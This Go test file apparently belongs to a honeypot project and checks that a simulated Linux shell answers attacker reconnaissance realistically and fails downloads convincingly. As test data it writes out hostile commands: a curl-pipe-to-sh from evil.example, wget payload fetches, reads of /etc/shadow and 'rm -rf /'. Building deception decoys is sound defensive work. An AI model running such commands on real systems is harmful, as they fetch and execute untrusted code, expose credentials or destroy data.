package shell_test

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/decnet/decnet/decoys/shell"
	"github.com/decnet/decnet/pkg/decnet/catalog"
)

func TestEverythingSaysTheSameOfTheMachine(t *testing.T) {
	for i, distro := range shell.OSes() {
		t.Run(distro, func(t *testing.T) {
			system, p := machine(t, distro, 40+i)
			s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
			run := func(command string) string {
				out, _ := s.exec(command)
				return strings.TrimSpace(out)
			}
			for command, want := range map[string]string{
				"hostname": p.Hostname, "cat /etc/hostname": p.Hostname, "uname -n": p.Hostname, "echo $HOSTNAME": p.Hostname,
				"uname -r": p.Kernel, "cat /proc/sys/kernel/osrelease": p.Kernel, "uname -m": "x86_64", "uname": "Linux",
				"nproc": run("grep -c ^processor /proc/cpuinfo"), "free -k | awk '/Mem/{print $2}'": run("awk '/MemTotal/{print $2}' /proc/meminfo"),
				"(lscpu || cat /proc/cpuinfo) 2>/dev/null | grep -im1 'model name' | cut -d: -f2 | xargs": run("grep -m1 'model name' /proc/cpuinfo | head -1 | cut -d: -f2 | xargs"),
				"uname -v":                strings.Join(strings.Fields(run("uname -a"))[3:len(strings.Fields(run("uname -v")))+3], " "),
				"id -un":                  "root",
				"ls -d /home/" + p.User:   "/home/" + p.User,
				"hostname -I":             "192.0.2.10",
				"readlink -f /bin/../tmp": "/tmp",
			} {
				if have := run(command); have != want {
					t.Errorf("%s: have %q, want %q", command, have, want)
				}
			}
			for command, part := range map[string]string{
				"cat /proc/version": "Linux version " + p.Kernel + " (", "cat /etc/os-release": `PRETTY_NAME="` + p.OS.Name + `"`,
				"cat /etc/passwd": p.User + ":x:1000:1000:", "ls /boot": "vmlinuz-", "cat /proc/cmdline": p.Kernel, "ip a": "192.0.2.10/24",
				"uptime": "load average:", "ps aux": "sshd", "ls -la /root": ".ssh", "df -h /": "% /", "head -c 4 /bin/ls": "\x7fELF",
				"which wget": "/usr/bin/wget", "env": "SSH_CONNECTION=203.0.113.7 50022 192.0.2.10 22",
			} {
				if have := run(command); !strings.Contains(have, part) {
					t.Errorf("%s: have %q, want %q in it", command, have, part)
				}
			}
			if v := run("cat /proc/version"); !strings.Contains(v, run("uname -v")) {
				t.Errorf("/proc/version is %q, uname -v %q", v, run("uname -v"))
			}
			if p.OS.ID == "debian" && !strings.Contains(system.Motd(), p.Kernel) {
				t.Errorf("motd is %q", system.Motd())
			}
		})
	}
}

func TestEveryKernelHasItsBuild(t *testing.T) {
	seen := map[string]bool{}
	for _, slug := range shell.OSes() {
		distro, err := catalog.FindOS(slug)
		if err != nil {
			t.Fatal(err)
		}
		for seed := range 200 {
			system, p := machine(t, slug, seed)
			if seen[p.Kernel] {
				continue
			}
			seen[p.Kernel] = true
			s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
			// A build ends in its date, such as (2024-02-01) or UTC 2024.
			if out, _ := s.exec("uname -v"); !strings.Contains(out, distro.KernelBuild) || !strings.ContainsAny(out[len(out)-6:], "0123456789") {
				t.Errorf("%s %s: have %q", slug, p.Kernel, out)
			}
		}
		for _, k := range distro.Kernels {
			if !seen[k] {
				t.Errorf("no machine runs %s", k)
			}
		}
	}
}

func TestMachinesDiffer(t *testing.T) {
	seen := map[string]bool{}
	for i := range 8 {
		system, _ := machine(t, "debian", i)
		s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
		out, _ := s.exec("cat /etc/machine-id /etc/shadow /proc/sys/kernel/random/boot_id; ip a; df; free")
		if seen[out] {
			t.Errorf("machine %d is another one", i)
		}
		seen[out] = true
	}
}

func TestDownloadsFailAsTheToolsDo(t *testing.T) {
	tests := []struct {
		command, want string
		status        int
	}{
		{"wget -q http://198.51.100.7/x", "", 4},
		{"wget http://evil.example/x.sh", "wget: unable to resolve host address ‘evil.example’", 4},
		{"wget", "wget: missing URL", 1},
		{"curl -s http://198.51.100.7:8080/x", "", 7},
		{"curl -o /tmp/x 198.51.100.7", "curl: (7) Failed to connect to 198.51.100.7 port 80 after", 7},
		{"curl -fsSL https://evil.example/x | sh", "curl: (6) Could not resolve host: evil.example", 0},
		{"apt-get install -y nmap", "E: Unable to locate package nmap", 100},
	}
	for _, test := range tests {
		s := newSession(t, nil)
		out, status := s.exec(test.command)
		if status != test.status || !strings.Contains(out, test.want) || test.want == "" && out != "" {
			t.Errorf("%s: have %d and %q, want %d and %q", test.command, status, out, test.status, test.want)
		}
	}
	s := newSession(t, nil)
	s.exec("cd /tmp; wget http://a/1 http://b/2 || curl -O http://c/3; ls")
	if have := strings.Join(s.downloads, "|"); have != "wget http://a/1|wget http://b/2|curl http://c/3" {
		t.Errorf("have %q", have)
	}
}

func TestFiles(t *testing.T) {
	tests := []struct {
		user, script, want string
	}{
		{"root", `echo a > /tmp/x; echo b >> /tmp/x; cat /tmp/x; rm /tmp/x; ls /tmp/x`, "a\nb\n! ls: cannot access '/tmp/x': No such file or directory\n"},
		{"root", `mkdir -p /a/b/c && touch /a/b/c/d && ls -R /a/b; rm -rf /a; [ -e /a ] || echo gone`, "/a/b:\nc\n\n/a/b/c:\nd\ngone\n"},
		{"root", `mkdir /tmp; rmdir /etc; rm /tmp; rm -rf /`, "! mkdir: cannot create directory ‘/tmp’: File exists\n" +
			"! rmdir: failed to remove '/etc': Directory not empty\n! rm: cannot remove '/tmp': Is a directory\n" +
			"! rm: it is dangerous to operate recursively on '/'\n! rm: use --no-preserve-root to override this failsafe\n"},
		{"root", `cd /tmp; echo 'echo run $1' > s; ./s; chmod +x s; ./s x; chmod 000 s; cat s`, "run x\necho run $1\n! bash: line 1: ./s: Permission denied\n"},
		{"oracle", `echo x > /etc/passwd; echo y > ~/f; cat ~/f; cat /etc/shadow; ls /root; rm /etc/hosts`, "y\n! bash: line 1: /etc/passwd: Permission denied\n" +
			"! cat: /etc/shadow: Permission denied\n! ls: cannot open directory '/root': Permission denied\n! rm: cannot remove '/etc/hosts': Permission denied\n"},
		{"root", `cp /etc/hostname /tmp; mv /tmp/hostname /tmp/h; nosuch; cat /tmp/h | wc -l; ln /x /tmp/l`, "1\n! bash: line 1: nosuch: command not found\n! ln: failed to access '/x': No such file or directory\n"},
		{"root", `echo x > /proc/version; echo x > /dev/null; cat /dev/null; touch /proc/x`, "! bash: line 1: /proc/version: Permission denied\n" +
			"! touch: cannot touch '/proc/x': No such file or directory\n"},
		{"root", `echo /etc/host*; cd /etc; echo os-rel*; echo /nope*`, "/etc/hostname /etc/hosts\nos-release\n/nope*\n"},
		{"root", `cat ../../../../../../etc/hostname /tmp/../etc/hostname | sort -u | wc -l`, "1\n"},
	}
	for _, test := range tests {
		s := newSession(t, func(c *shell.Config) { c.User = test.user })
		if have, _ := s.exec(test.script); have != test.want {
			t.Errorf("%s: have\n%q, want\n%q", test.script, have, test.want)
		}
	}
}

func TestFileSystemIsBounded(t *testing.T) {
	s := newSession(t, nil)
	out, _ := s.exec(`x=$(seq 3000); for i in $(seq 700); do echo "$x" > /tmp/f$i; done`)
	if !strings.Contains(out, "No space left on device") {
		t.Errorf("have %.200q", out)
	}
	// What is removed can be used again.
	if out, _ := s.exec("rm -rf /tmp/f*; echo ok > /tmp/g; cat /tmp/g"); out != "ok\n" {
		t.Errorf("have %.200q", out)
	}
}

func TestWhoMayLogIn(t *testing.T) {
	system, p := machine(t, "debian", 1)
	for name, want := range map[string]bool{
		"root": true, p.User: true, "oracle": true, "www-data": false, "sshd": false, "": false, "A": false, "a b": false, "-x": false, strings.Repeat("a", 40): false,
	} {
		if system.MayLogIn(name) != want {
			t.Errorf("%q: have %v", name, !want)
		}
	}
}

func TestIPv6Machine(t *testing.T) {
	_, p := machine(t, "debian", 1)
	system := shell.NewSystem(p, netip.MustParseAddr("2001:db8::10"))
	s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
	if out, status := s.exec("ip a; ip -6 r; cat /etc/resolv.conf"); status != 0 || !strings.Contains(out, "inet6 2001:db8::10/64") {
		t.Error(fmt.Sprint(out, status))
	}
}

// What is chance on a genuine machine is no constant of ours.
func TestNoTwoMachinesShareWhatIsChance(t *testing.T) {
	ask := func(seed int, command string) string {
		system, _ := machine(t, "debian", seed)
		out, status := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() }).exec(command)
		if status != 0 {
			t.Errorf("%s: %d, %q", command, status, out)
		}
		return out
	}
	for _, command := range []string{
		"sha256sum /bin/ls", "wc -c < /bin/cat", "stat -c %i /etc/passwd", "ls -i /bin/ls", "find /etc/hosts -ls", "head -c 64 /bin/ls | md5sum",
		"sha256sum /boot/vmlinuz*", "cat /etc/machine-id", "grep root /etc/shadow", "blkid", "stat -f /", "cat /proc/sys/kernel/random/boot_id",
	} {
		if one, other := ask(1, command), ask(2, command); one == other || one != ask(1, command) {
			t.Errorf("%s: one machine has %q, another %q, the first again %q", command, one, other, ask(1, command))
		}
	}
	for _, command := range []string{"cat /proc/self/maps", "ldd /bin/ls"} {
		if one, again := ask(1, command), ask(1, command); one == again {
			t.Errorf("%s: twice %q", command, one)
		}
	}
	if ask(1, "head -c 64 /bin/ls | md5sum") == ask(1, "head -c 64 /bin/cat | md5sum") {
		t.Error("two programs have one header")
	}
}

// A machine runs and listens on what its decky has, and on nothing else.
func TestServicesAreTheDeckys(t *testing.T) {
	_, p := machine(t, "debian", 3)
	tests := []struct {
		services []string
		ports    string
		has, not []string
	}{
		{nil, "22 80", []string{"sshd: /usr/sbin/sshd"}, []string{"inetd"}},
		{[]string{"ssh"}, "22", []string{"sshd: /usr/sbin/sshd"}, []string{"apache2", "nginx", "inetd"}},
		{[]string{"telnet"}, "23", []string{"inetutils-inetd"}, []string{"sshd: /usr/sbin/sshd", "apache2", "nginx"}},
		{[]string{"http", "ssh", "telnet"}, "22 23 80", []string{"inetutils-inetd", "sshd: /usr/sbin/sshd"}, nil},
	}
	for _, test := range tests {
		system := shell.NewSystem(p, netip.MustParseAddr("192.0.2.10"), test.services...)
		s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
		if out, _ := s.exec("ss -tln | awk '/0.0.0.0/{print $4}' | cut -d: -f2 | sort -n | xargs"); strings.TrimSpace(out) != test.ports {
			t.Errorf("%v: listens on %q", test.services, out)
		}
		list, _ := s.exec("ps aux; systemctl list-units")
		for _, word := range test.has {
			if !strings.Contains(list, word) {
				t.Errorf("%v: no %s in %s", test.services, word, list)
			}
		}
		for _, word := range test.not {
			if strings.Contains(list, word) {
				t.Errorf("%v: there is %s", test.services, word)
			}
		}
	}
}

// BusyBox's telnetd has no process for a session, and its login becomes the shell.
func TestASessionByTelnetOfBusybox(t *testing.T) {
	for _, os := range []string{"alpine", "openwrt"} {
		_, p := machine(t, os, 3)
		system := shell.NewSystem(p, netip.MustParseAddr("192.0.2.10"), "telnet")
		s := newSession(t, func(c *shell.Config) { c.System, c.FS, c.Service, c.Term = system, system.NewFS(), "telnet", "xterm" })
		if out, _ := s.exec("ps"); strings.Contains(out, "login -h") || !strings.Contains(out, " ash\n") || strings.Count(out, "telnetd") != 1 {
			t.Errorf("%s: have %s", os, out)
		}
	}
}

// Who has come by Telnet looks like that from within.
func TestASessionByTelnet(t *testing.T) {
	_, p := machine(t, "debian", 3)
	system := shell.NewSystem(p, netip.MustParseAddr("192.0.2.10"), "telnet")
	for command, want := range map[string]string{
		"who": "(203.0.113.7)", "w": "203.0.113.7", "last": "203.0.113.7", "ps aux": "telnetd: 203.0.113.7", "ps -ef": "login -h 203.0.113.7 -p",
		"ss -tn": "192.0.2.10:23", "netstat -tnp": "telnetd", "env": "TERM=xterm", "cat /proc/net/tcp": ":0017 ",
	} {
		s := newSession(t, func(c *shell.Config) { c.System, c.FS, c.Service, c.Term = system, system.NewFS(), "telnet", "xterm" })
		if out, _ := s.exec(command); !strings.Contains(out, want) || strings.Contains(out, "invalid") || strings.Contains(out, "SSH_") || strings.Contains(out, "sshd:") {
			t.Errorf("%s: have %s", command, out)
		}
	}
}

// Every installation has another machine; none of them may be impossible.
func TestMachinesOfAllSeedsAreThere(t *testing.T) {
	for distro, seeds := range map[string]int{"openwrt": 100, "debian": 10, "alpine": 10} {
		for seed := range seeds {
			system, _ := machine(t, distro, seed)
			s := newSession(t, func(c *shell.Config) { c.System, c.FS = system, system.NewFS() })
			df, _ := s.exec("df -k / | tail -n 1")
			var size, used, free int
			fields := strings.Fields(df)
			if len(fields) < 5 {
				t.Fatalf("%s, seed %d: df says %q", distro, seed, df)
			}
			for i, n := range []*int{&size, &used, &free} {
				if _, err := fmt.Sscan(fields[i+1], n); err != nil || *n <= 0 {
					t.Fatalf("%s, seed %d: df says %q", distro, seed, df)
				}
			}
			if used+free > size {
				t.Errorf("%s, seed %d: more is used and free than there is: %q", distro, seed, df)
			}
		}
	}
}
